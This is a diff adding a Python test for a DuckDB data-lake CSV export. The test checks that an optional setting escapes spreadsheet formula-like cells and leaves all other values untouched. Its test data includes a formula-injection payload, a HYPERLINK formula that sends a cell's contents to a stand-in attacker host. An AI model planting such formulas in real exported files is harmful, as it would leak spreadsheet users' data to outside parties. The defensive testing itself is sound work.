@@ -76,3 +76,29 @@ def test_an_empty_table_is_a_file_with_its_columns_so_every_table_reads(
         assert len(relation.fetchall()) == written[name], name
     columns = duckdb.sql(f"SELECT * FROM read_parquet('{target}/article_versions/**/*.parquet')").columns
     assert "superseded_at" in columns and "title" in columns
+
+
+def test_csv_for_spreadsheets_writes_formula_like_text_as_text_and_leaves_the_rest(
+    con: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    import csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    con.execute("UPDATE lake.articles SET title = ?, site_name = ?", [hostile, "@jane"])
+    plain, escaped = tmp_path / "plain", tmp_path / "escaped"
+    export_lake(con, plain, "csv", None)
+    export_lake(con, escaped, "csv", None, escape_formulas=True)
+
+    def rows(folder: Path, name: str) -> list[dict[str, str]]:
+        with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
+            return list(csv.DictReader(handle))
+
+    [before], [after] = rows(plain, "articles"), rows(escaped, "articles")
+    assert (before["title"], before["site_name"]) == (hostile, "@jane")  # exact unless asked
+    assert (after["title"], after["site_name"]) == ("'" + hostile, "'@jane")
+    assert {k: v for k, v in after.items() if k not in ("title", "site_name")} == {
+        k: v for k, v in before.items() if k not in ("title", "site_name")
+    }  # numbers, dates and plain text as they were
+    assert json.loads((escaped / "_manifest.json").read_text())["formulas_escaped"] is True
+    with pytest.raises(ValueError, match="for CSV"):
+        export_lake(con, tmp_path / "x", "parquet", None, escape_formulas=True)
